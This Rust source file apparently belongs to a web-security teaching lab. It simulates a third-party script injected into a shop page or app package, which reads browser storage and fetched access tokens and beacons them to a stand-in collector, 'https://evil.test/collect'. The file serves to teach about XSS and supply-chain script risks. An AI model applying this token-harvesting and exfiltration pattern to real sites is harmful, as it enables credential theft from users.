//! `script`: a browser loads a page with a script of somebody else's, which runs there if nothing stops it: a comment in the
//! shop's page, or a package in that of the app. What
//! it reads and sends is modelled; the requests are real.

use std::collections::BTreeMap;

use serde_json::{Value as Json, json};

use super::refresh_retry::send_request;
use crate::lab::browser::injection::judge_page;
use crate::lab::client::{ClientExchange, Clients, ScriptPage};
use crate::lab::error::LabError;
use crate::lab::request_error::RequestError;
use crate::model::act::{PageScript, RequestTrigger, StoragePlace};
use crate::model::header_values::HeaderValues;
use crate::model::{Act, Exchange, Request, ScriptResult, ScriptVerdict};

/// Where the script sends what it found, unless the lesson says otherwise.
const COLLECTOR: &str = "https://evil.test/collect";
/// The word for a token that the script's own request has brought.
const FETCHED_TOKEN: &str = "fetched_token";

/// Lets the client that the act names load the page, and the script run in it.
///
/// # Errors
/// When nobody loads it, when a request can't be sent as it is written, or when a connection breaks.
pub(super) async fn perform(clients: &mut Clients, act: &Act, script: &PageScript) -> Result<Vec<Exchange>, LabError> {
    let client = act.by.as_deref().ok_or(LabError::NoClient)?;
    let page = script_page(script)?;
    let load = from_page(page, page.load_line(), RequestTrigger::Fetch);
    let loaded = send_request(clients, client, &load).await?;
    let verdict = judge_page(&loaded.exchange.response);
    let mut exchanges: Vec<Exchange> = loaded.into_exchanges().collect();
    let mut found = BTreeMap::new();
    if verdict == ScriptVerdict::Ran {
        if let Some(request) = &script.request {
            let answered = send_request(clients, client, &in_page(page, request)).await?;
            found.extend(token_in(&answered).map(|token| (FETCHED_TOKEN.to_owned(), token)));
            exchanges.extend(answered.into_exchanges());
        }
        let places = if script.reads.is_empty() { &StoragePlace::ALL[..] } else { &script.reads };
        found.extend(clients.read_storage(client, page, places).await);
        if !found.is_empty() {
            let line = format!("POST {}", script.to.as_deref().unwrap_or(COLLECTOR));
            let body = Some(json!(found).to_string());
            let report = Request { body, headers: text_plain(), ..from_page(page, line, RequestTrigger::Beacon) };
            exchanges.extend(send_request(clients, client, &report).await?.into_exchanges());
        }
    }
    clients.lane().state().await.script_result = Some(ScriptResult { verdict, found });
    Ok(exchanges)
}

/// The page that the act names; without a name the shop's.
fn script_page(script: &PageScript) -> Result<ScriptPage, LabError> {
    let Some(url) = &script.page else { return Ok(ScriptPage::Shop) };
    ScriptPage::from_url(url)
        .ok_or_else(|| LabError::BadRequest { line: url.clone(), error: RequestError::ForeignPage })
}

/// The access token that the script's own request has brought, if it may read the response.
fn token_in(answered: &ClientExchange) -> Option<String> {
    if answered.is_refused_by_cors() {
        return None;
    }
    let body: Json = serde_json::from_str(&answered.exchange.response.body).ok()?;
    body.get("access_token")?.as_str().map(str::to_owned)
}

fn from_page(page: ScriptPage, line: String, start: RequestTrigger) -> Request {
    Request { line, page: Some(page.url()), start: Some(start), ..Request::default() }
}

/// A request that the lesson lets the script send: from its page, as a fetch unless the lesson says otherwise.
fn in_page(page: ScriptPage, request: &Request) -> Request {
    let start = request.start.or(Some(RequestTrigger::Fetch));
    Request { page: Some(page.url()), start, ..request.clone() }
}

fn text_plain() -> BTreeMap<String, HeaderValues> {
    BTreeMap::from([("Content-Type".to_owned(), "text/plain".into())])
}
